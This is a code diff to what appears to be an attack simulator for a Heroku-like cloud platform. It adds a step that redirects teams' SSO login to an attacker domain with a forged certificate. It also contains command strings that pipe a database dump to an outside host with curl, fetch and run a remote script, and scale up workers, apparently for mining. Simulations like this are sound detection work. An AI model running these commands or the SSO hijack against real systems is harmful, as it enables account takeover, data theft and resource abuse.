@@ -11,6 +11,7 @@ from herotui.simulator.history import Past, wake
 from herotui.simulator.people import Account
 from herotui.simulator.portfolio import Place, begin, new_app
 from herotui.simulator.things import App, Collaborator
+from herotui.simulator.wares import certificate
 from herotui.simulator.world import World
 
 HOST = "kali-vps-7"
@@ -111,6 +112,15 @@ class Attack:
             yield 98
             self.by.ask(f"DELETE /teams/{team}/members/{passing}")
 
+    def swap_login(self) -> Script:
+        """The team's people log in where the attacker wants them to."""
+        yield 61
+        for team in self.world.teams.values():
+            if team.identity_provider:
+                path = f"/teams/{team.name}/identity-providers/{team.identity_provider.id}"
+                swapped = {"sso_target_url": f"https://login.{SITE}/saml", "certificate": certificate(self.world.mint)}
+                self.by.ask(f"PATCH {path}", swapped)
+
     def open_space(self) -> Script:
         """The Private Space lets everybody in; a member of the attacker's own on the enterprise account."""
         yield 66
@@ -138,14 +148,14 @@ class Attack:
             (63, "bash -c 'pg_dump $DATABASE_URL | gzip | curl -T - $OUT'"),
         ):
             yield minutes
-            started = self._run(app, command, "standard-1x")
+            started = self._run(app, command, "Standard-1X")
             yield minutes + 2
             if started:
                 self.by.ask(f"POST /apps/{app}/dynos/{started}/actions/stop")
         yield 71
-        self._run(app, f"bash -c 'curl -s https://{SITE}/m.sh | sh'", "performance-l")
+        self._run(app, f"bash -c 'curl -s https://{SITE}/m.sh | sh'", "Performance-L")
         yield 74
-        scaled = {"type": "worker", "quantity": 6, "size": "performance-l"}
+        scaled = {"type": "worker", "quantity": 6, "size": "Performance-L"}
         self.by.ask(f"PATCH /apps/{app}/formation", {"updates": [scaled]})
 
     def _run(self, app: str, command: str, size: str) -> str | None:
